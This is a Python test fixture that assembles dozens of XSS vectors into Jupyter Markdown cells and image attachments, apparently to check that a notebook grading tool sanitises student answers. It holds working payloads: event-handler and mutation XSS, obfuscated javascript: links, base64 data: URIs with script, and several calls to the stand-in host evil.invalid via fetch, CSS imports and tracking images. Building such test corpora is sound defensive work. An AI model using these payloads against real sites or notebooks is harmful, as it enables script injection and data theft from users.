"""Known XSS vectors, as a student would type them in a Markdown answer cell, plus pasted-image
attachments. Each, if it ran, would open a dialog, set `window.__pwned` or send a request to
evil.invalid; each cell starts with its label (`V01 ...`), which must stay visible.

Families: comment and CDATA break-outs, noscript/style/template/textarea/xmp/noembed mutation XSS,
SVG/MathML namespace confusion, entity-encoded and obfuscated javascript: URLs, srcdoc, <base>,
<meta refresh>, formaction, data: URIs, event handlers, CSS fetches, Markdown link and image forms,
math and mermaid blocks, and attachments (an SVG with script, a PNG whose data breaks out)."""

from __future__ import annotations

import base64

import nbformat

J = "alert(1);window.__pwned=1;fetch('http://evil.invalid/x')"
B64_SCRIPT_HTML = base64.b64encode(b"<script>parent.__pwned=1;alert(1)</script>").decode()
B64_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                           b"<script>parent.__pwned=1;fetch('http://evil.invalid/svg')</script></svg>").decode()
# A 1x1 red PNG, as JupyterLab stores a pasted screenshot.
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC")

VECTORS: dict[str, str] = {
    # issue 14, verbatim in shape: a comment break-out hidden in a backtick span, and noscript mutation
    "comment-in-code-span": f'Ordinary looking answer. `\n\n<!--><img src=x onerror="{J}">-->\n\n`',
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror=\\"{J}\\">"></noscript>',
    "comment-breakout-svg": "<!--><svg onload=alert(1)>-->",
    "comment-dash-bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata-breakout": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "svg-cdata": "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)>\"]]></svg>",
    "style-mutation": "<style><style/><img src=x onerror=alert(1)>",
    "template-mutation": "<template><s><template><style><img src=x onerror=alert(1)></style></template></s>",
    "textarea-mutation": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "xmp-mutation": '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "noembed-mutation": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "mathml-mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
                     'onerror=alert(1)&gt;">',
    "svg-p-style": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "math-style": "<math><style><img src=x onerror=alert(1)></style></math>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
    "svg-animate": '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    "svg-set-href": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">set</text></a></svg>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "math-href": '<math href="javascript:alert(1)">CLICK</math>',
    "script": f"<script>{J}</script>",
    "split-script": "<scr<script>ipt>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "input-autofocus": "<input onfocus=alert(1) autofocus>",
    "video-source": "<video><source onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>m</marquee>",
    "onclick-link": '<a href="https://www.ilo.org" onclick="alert(1)">ilo</a>',
    "entity-js-href": '<a href="&#106;avascript:alert(1)">entity</a>',
    "hex-entity-js-href": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
                          'alert(1)">hex</a>',
    "tab-js-href": '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;parent.__pwned=1;alert(1)&lt;/script&gt;"></iframe>',
    "iframe-js": '<iframe src="javascript:alert(1)"></iframe>',
    "base-href": '<base href="http://evil.invalid/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "formaction": '<form><button formaction="javascript:alert(1)">send</button></form>',
    "object-data": f'<object data="data:text/html;base64,{B64_SCRIPT_HTML}"></object>',
    "embed-src": '<embed src="data:text/html,<script>alert(1)</script>">',
    "data-html-link": f'<a href="data:text/html;base64,{B64_SCRIPT_HTML}">data link</a>',
    "link-stylesheet": '<link rel=stylesheet href="http://evil.invalid/x.css">',
    "style-import": "<style>@import 'http://evil.invalid/x.css';</style>",
    "style-url": '<div style="background:url(http://evil.invalid/bg.png)">styled</div>',
    "md-js-link": "[md link](javascript:alert(1))",
    "md-mixed-case-link": "[md case](JaVaScRiPt:alert(1))",
    "md-entity-link": "[md entity](&#106;avascript:alert(1))",
    "md-colon-entity-link": "[md colon](javascript&colon;alert(1))",
    "md-angle-link": "[md angle](<javascript:alert(1)>)",
    "md-autolink": "<javascript:alert(1)>",
    "md-reference": "[md ref][r]\n\n[r]: javascript:alert(1)",
    "md-data-link": f"[md data](data:text/html;base64,{B64_SCRIPT_HTML})",
    "md-js-image": "![md js image](javascript:alert(1))",
    "md-remote-image": "![tracking pixel](http://evil.invalid/pixel.png)",
    "md-image-quote": '![q](x" onerror="alert(1))',
    "md-title-quote": '[titled](https://www.ilo.org "t\\" onmouseover=\\"alert(1)")',
    "md-table-cell": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ok |",
    "mermaid-block": "```mermaid\ngraph TD\nA[\"<img src=x onerror=alert(1)>\"]\n```",
    "math-block": "$$<img src=x onerror=alert(1)>$$",
    "tex-href": "$\\href{javascript:alert(1)}{tex link}$",
    "html-block-after-list": "- item\n\n<div><img src=x onerror=alert(1)></div>",
}

# Pasted images: name -> (markdown, attachments). The PNG must show as an image; the others must not.
ATTACHMENTS: dict[str, tuple[str, dict]] = {
    "pasted-png": ("![image.png](attachment:image.png)", {"image.png": {"image/png": PNG}}),
    "pasted-svg-script": ("![evil.svg](attachment:evil.svg)", {"evil.svg": {"image/svg+xml": B64_SVG}}),
    "pasted-png-breakout": ("![b.png](attachment:b.png)",
                            {"b.png": {"image/png": 'x" onerror="alert(1)'}}),
    "pasted-html": ("![page](attachment:page.html)", {"page.html": {"text/html": B64_SCRIPT_HTML}}),
    "pasted-missing": ("![gone](attachment:gone.png)", {}),
}


def label(n: int, name: str) -> str:
    return f"V{n:02d} {name}"


def corpus_cells() -> list:
    """One Markdown cell per vector (label paragraph first), then one per pasted image."""
    cells = [nbformat.v4.new_markdown_cell(f"{label(n, name)}\n\n{VECTORS[name]}")
             for n, name in enumerate(VECTORS, start=1)]
    for n, (name, (text, attachments)) in enumerate(ATTACHMENTS.items(), start=len(VECTORS) + 1):
        cell = nbformat.v4.new_markdown_cell(f"{label(n, name)}\n\n{text}")
        if attachments:
            cell.attachments = attachments
        cells.append(cell)
    return cells


def corpus_answer() -> str:
    """Every vector in one answer (label paragraph first), as the grading dashboard shows an answer."""
    return "\n\n".join(f"{label(n, name)}\n\n{VECTORS[name]}" for n, name in enumerate(VECTORS, start=1))


VECTOR_LABELS = [label(n, name) for n, name in enumerate(VECTORS, start=1)]
LABELS = [label(n, name) for n, name in enumerate([*VECTORS, *ATTACHMENTS], start=1)]
